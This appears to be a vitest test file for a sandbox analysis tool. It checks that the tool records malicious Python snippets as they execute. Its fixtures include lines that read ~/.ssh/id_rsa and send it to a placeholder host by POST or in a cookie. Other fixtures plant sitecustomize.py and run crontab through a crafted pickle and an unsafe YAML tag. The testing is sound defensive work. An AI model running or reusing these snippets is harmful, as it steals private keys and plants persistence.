import type { SandboxRun } from '@assay/analysis/runs/observation';
import { buildPlan, type ExerciseUnit } from '@assay/analysis/runs/plan';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createEmbeddedSandbox } from './embedded.ts';

// Far above what the tests need, so that a busy machine does not change a result.
const sandbox = createEmbeddedSandbox({ unitWallMs: 60_000, totalWallMs: 280_000 });
afterAll(() => sandbox.close());

const lines = (...text: string[]): string => text.join('\n');
const SEND = 'requests.post("https://c.example.invalid/u", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())';
const LEAK = 'net | POST https://c.example.invalid/u | canary:ssh-key upload';
const START = 'import os, sys, requests';

type Further = Partial<Pick<ExerciseUnit, 'args' | 'others'>>;
/** Each program performs its act only when it gets what it requires. */
const ACTS: Record<string, [code: string, seen: string, how?: Further]> = {
  'a file its command line names': [
    lines(START, 'rows = open(sys.argv[1]).read().split("\\n")', `if len(rows) > 1: ${SEND}`),
    LEAK,
    { args: ['data/input.csv'] },
  ],
  'a folder its command line names': [
    lines(START, 'for name in os.listdir(sys.argv[1]):', `    ${SEND}`),
    LEAK,
    { args: ['src/'] },
  ],
  'columns that it asks for': [
    lines(START, 'import csv', 'for row in csv.DictReader(open(sys.argv[1])):', `    if row["quantity"]: ${SEND}`),
    LEAK,
    { args: ['orders.csv'] },
  ],
  'a file that it names itself': [lines(START, 'import json', 'json.load(open("settings.json"))', SEND), LEAK],
  'an order that no document shows': [
    lines(START, 'if sys.argv[1:] == ["push"]:', `    ${SEND}`),
    LEAK,
    { others: [['push']] },
  ],
  'items of something unknown': [
    lines(START, 'import unheard', 'left, right = unheard.pair()', 'for item in unheard.items():', `    ${SEND}`),
    LEAK,
  ],
  'something unknown that never ends': [lines(START, 'import unheard', 'while unheard.more(): pass', SEND), LEAK],
  'a function of text': [
    lines(START, 'import re', 'def tidy(text):', '    re.compile("a").search(text)', `    ${SEND}`),
    LEAK,
  ],
  'owners of files': [
    lines(
      START,
      'import pwd, grp',
      'assert pwd.getpwuid(0)[0] == pwd.getpwuid(0).pw_name and grp.getgrgid(0)[0]',
      SEND,
    ),
    LEAK,
  ],
  'text of something unknown': [
    lines(START, 'import re, unheard', 're.compile("a").search(unheard.paste())', SEND),
    LEAK,
  ],
  'a cookie': [
    lines(
      START,
      's = requests.Session()',
      's.cookies.set("k", open(os.path.expanduser("~/.ssh/id_rsa")).read())',
      's.get("https://c.example.invalid/u")',
    ),
    'net | GET https://c.example.invalid/u | canary:ssh-key',
  ],
  'where packages lie': [
    lines(
      'import sysconfig, os',
      'p = sysconfig.get_path("purelib")',
      'os.makedirs(p, exist_ok=True)',
      'open(p + "/sitecustomize.py", "w").write("1")',
    ),
    'persist | ~/.local/lib/python3.12/site-packages/sitecustomize.py | outside-work',
  ],
  'a pickle that starts a program': [
    lines('import pickle', 'pickle.loads(b"cposix\\nsystem\\np0\\n(Vcrontab -\\np1\\ntp2\\nRp3\\n.")'),
    'persist | crontab: |',
  ],
  'a tag that starts a program': [
    lines('import yaml', 'yaml.load("a: !!python/object/apply:os.system [\\"crontab -\\"]", Loader=yaml.Loader)'),
    'persist | crontab: |',
  ],
};
const QUIET: Record<string, string> = {
  'a tag that is refused': lines(
    'import yaml',
    'yaml.safe_load("a: !!python/object/apply:os.system [\\"crontab -\\"]")',
  ),
  'settings in YAML': lines(
    'import yaml',
    'assert yaml.safe_load("a:\\n  - b: 1\\n    c: x\\nd: [1, two]") == {"a": [{"b": 1, "c": "x"}], "d": [1, "two"]}',
  ),
  'a file that is asked for and not there': lines(
    'import os',
    'if os.path.exists("unasked.csv"): os.system("crontab -")',
  ),
};

describe('Python goes further', () => {
  let run: SandboxRun;
  beforeAll(async () => {
    const code = {
      ...Object.fromEntries(Object.entries(QUIET).map(([name, text]) => [name, [text, '', {}] as const])),
      ...ACTS,
    };
    const units = Object.entries(code).map(
      ([id, [text, , how = {}]]): ExerciseUnit => ({
        id,
        kind: 'script',
        language: 'python',
        path: `${id}.py`,
        line: 1,
        code: text,
        args: [],
        reachable: true,
        ...how,
      }),
    );
    run = await sandbox.run(buildPlan({ digest: 'd', units, files: [] }));
  }, 290_000);
  const actsOf = (id: string) =>
    run.observations
      .filter(({ unit }) => unit === id)
      .map(({ kind, target, data }) => `${kind} | ${target} | ${data.join(' ')}`.trim());

  it.each(Object.entries(ACTS).map(([id, [, seen]]) => [id, seen]))('with %s', (id, seen) => {
    expect(actsOf(id)).toContain(seen);
  });

  it.each(Object.keys(QUIET))('but not with %s', (id) => {
    expect(actsOf(id).filter((act) => act.startsWith('persist'))).toEqual([]);
    expect(run.gaps.filter(({ unit, reason }) => unit === id && reason.includes('AssertionError'))).toEqual([]);
  });
});
